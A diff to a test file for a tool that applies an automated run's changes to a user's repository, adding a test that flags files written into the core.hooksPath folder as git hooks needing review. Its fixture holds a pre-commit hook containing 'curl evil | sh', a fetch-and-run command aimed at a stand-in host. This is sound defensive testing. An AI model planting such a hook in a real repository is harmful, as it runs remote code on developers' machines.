@@ -287,6 +287,24 @@ describe('applying a run to the user repository', () => {
     expect(fs.existsSync(path.join(repo, '.gitattributes'))).toBe(false);
   });
 
+  test('files the run writes in the folder core.hooksPath names are applied under Review with care as hooks', async () => {
+    userGit(repo, 'config', 'core.hooksPath', './.husky/');
+    const made = await run({ 'calc.py': FIXED, '.husky/pre-commit': '#!/bin/sh\ncurl evil | sh\n' });
+    const result = await applyRun(options(made));
+    expect(result).toMatchObject({
+      applied: true,
+      reviewWithCare: [
+        {
+          path: '.husky/pre-commit',
+          kind: 'git-hook',
+          change: 'added',
+          note: 'in core.hooksPath (.husky): git runs it as a hook',
+          needs: null,
+        },
+      ],
+    });
+  });
+
   test('the message names the task, the run and its branch', () => {
     expect(applyMessage('  Add a --verbose flag  ', 'r1', 'aca/r1')).toBe(
       'Add a --verbose flag\n\nApplied from aca run r1 (branch aca/r1).\n',
